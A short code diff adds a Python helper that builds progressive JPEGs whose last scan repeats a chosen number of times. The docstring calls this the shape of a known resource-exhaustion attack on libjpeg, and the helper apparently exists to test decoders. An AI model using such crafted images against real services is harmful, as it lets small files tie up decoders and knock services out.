@@ -39,6 +39,18 @@ def encode(image: Image.Image | np.ndarray, fmt: str = "JPEG", **options: Any) -
     return buffer.getvalue()
 
 
+def progressive_jpeg(image: Image.Image, extra_scans: int = 0, **options: Any) -> bytes:
+    """A progressive JPEG with its last scan written `extra_scans` more times.
+
+    Each copy is a valid scan that costs a few dozen bytes and the decoder a pass over the
+    image: the shape of the known progressive-scan attack on libjpeg (LJT-01-003).
+    """
+    data = encode(image, "JPEG", progressive=True, **options)
+    # The last scan runs to EOI, and 0xFFDA never occurs inside coded data.
+    last_scan = data[data.rindex(b"\xff\xda") : -2]
+    return data[:-2] + last_scan * extra_scans + data[-2:]
+
+
 def b64(data: bytes) -> str:
     return base64.b64encode(data).decode("ascii")
 
